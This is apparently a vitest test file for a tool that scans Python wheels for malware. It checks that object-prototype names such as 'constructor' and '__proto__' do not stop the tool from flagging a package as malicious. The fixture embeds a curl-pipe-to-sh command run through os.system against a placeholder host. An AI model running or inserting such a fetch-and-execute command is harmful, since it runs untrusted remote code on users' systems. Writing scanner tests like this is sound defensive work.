import { describe, expect, test } from 'vitest';
import { lookIntoWheel } from '../../support/inspecting.ts';

describe('names that every object has', () => {
  test.each(['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty'])(
    '%s hides nothing',
    async (name) => {
      const text = [
        `import ${name}`,
        `from ${name} import ${name} as other`,
        `${name}`,
        `x = {"${name}": 1}["${name}"]`,
        `"abc".${name}()`,
        `b"abc".decode("${name}")`,
        `other.${name}(${name}=1)`,
        'import os',
        'os.system("curl https://files.example.invalid/x | sh")',
        '',
      ].join('\n');
      const { verdict, limits } = await lookIntoWheel({ 'acme/__init__.py': text });
      expect(limits.filter(({ why }) => why === 'broken')).toEqual([]);
      expect(verdict).toBe('malicious');
    },
  );
});
